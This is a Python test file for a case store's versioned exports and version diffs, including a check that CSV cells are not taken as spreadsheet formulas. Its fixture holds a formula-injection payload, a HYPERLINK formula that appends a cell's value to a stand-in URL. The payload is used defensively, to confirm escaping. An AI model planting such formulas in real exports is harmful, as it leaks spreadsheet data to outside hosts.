"""Versions on their way out, and side by side: files that prove themselves, no case unnamed."""

import csv
import hashlib
import json
from collections.abc import Generator
from contextlib import closing
from io import BytesIO, StringIO
from pathlib import Path
from zipfile import ZipFile

import pytest

from curation.cases import State
from curation.errors import BadRequest, Unknown
from store.acts.describing import describe
from store.acts.freezing import freeze
from store.acts.moving import move
from store.answers.sets import difference
from store.answers.versions import FORMATS, export
from store.desk import Desk, found_desk, open_desk
from tests.builders import ANA, BEN, a_case, opened

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
CASES = [
    a_case(id="c-1", input=FORMULA, expected="+1, twice\nand again", tags=("late", "money")),
    a_case(id="c-2", input='Ünï "quoted", and a comma', expected="-"),
    a_case(id="c-3", input="Plain"),
]


@pytest.fixture
def desk(tmp_path: Path) -> Generator[Desk]:
    found_desk(tmp_path / "desk")
    with closing(open_desk(tmp_path / "desk")) as desk:
        with desk.ledger.transaction() as tx:
            for case in CASES:
                tx.record(opened(case))
        freeze(desk, "monitoring", actor=ANA)
        yield desk


@pytest.mark.parametrize("form", FORMATS)
def test_an_export_is_one_file_that_holds_its_own_proof(desk: Desk, form: str) -> None:
    found = export(desk, "monitoring", 1, form)
    with ZipFile(BytesIO(found.zipped())) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    assert list(files) == [f"monitoring@1.{form}", f"monitoring@1.{form}.manifest.json"]
    data, manifest = files.values()
    said = json.loads(manifest)
    assert said["file_sha256"] == hashlib.sha256(data).hexdigest()
    assert said["cases"] == 3
    assert found.zipped() == export(desk, "monitoring", None, form).zipped()


def test_no_cell_of_a_table_is_taken_for_a_formula(desk: Desk) -> None:
    rows = list(csv.DictReader(StringIO(export(desk, "monitoring", 1, "csv").text)))
    assert [row["input"] for row in rows] == [f"'{FORMULA}", CASES[1].input, "Plain"]
    assert [row["expected"] for row in rows[:2]] == ["'+1, twice\nand again", "'-"]
    assert [rows[0]["tags"], rows[0]["cost_of_failure"]] == ["late, money", "40.0"]
    assert list(rows[0]) == list(json.loads(export(desk, "monitoring", 1).text.split("\n")[0]))


def test_a_format_that_nobody_knows_is_refused(desk: Desk) -> None:
    with pytest.raises(BadRequest, match="'xlsx' is no format"):
        export(desk, "monitoring", 1, "xlsx")


def test_two_versions_stand_side_by_side_with_the_words_of_every_case_named(
    desk: Desk,
) -> None:
    move(desk, ["c-3"], State.BACKLOG, actor=ANA, reason="noise")
    describe(desk, ["c-2"], {"owner": BEN}, actor=ANA)
    with desk.ledger.transaction() as tx:
        tx.record(opened(a_case(id="c-4", input="New")))
    freeze(desk, "monitoring", actor=ANA)
    found = difference(desk, ("monitoring", 1), ("monitoring", 2))
    assert (found.before, found.after, found.same) == ("monitoring@1", "monitoring@2", 1)
    assert (found.added, found.removed) == (("c-4",), ("c-3",))
    assert [(c.case, dict(c.fields)) for c in found.changed] == [
        ("c-2", {"owner": ("carl", BEN)})
    ]
    assert {c: line["input"] for c, line in found.lines.items()} == {
        "c-2": CASES[1].input,
        "c-3": "Plain",
        "c-4": "New",
    }
    assert found.lines["c-2"]["owner"] == BEN
    now = difference(desk, ("monitoring", 2), ("monitoring", None))
    assert (now.after, now.added, now.removed, now.changed) == ("monitoring now", (), (), ())


def test_a_version_that_was_never_made_cannot_be_compared(desk: Desk) -> None:
    with pytest.raises(Unknown, match="monitoring@9"):
        difference(desk, ("monitoring", 9), ("monitoring", None))
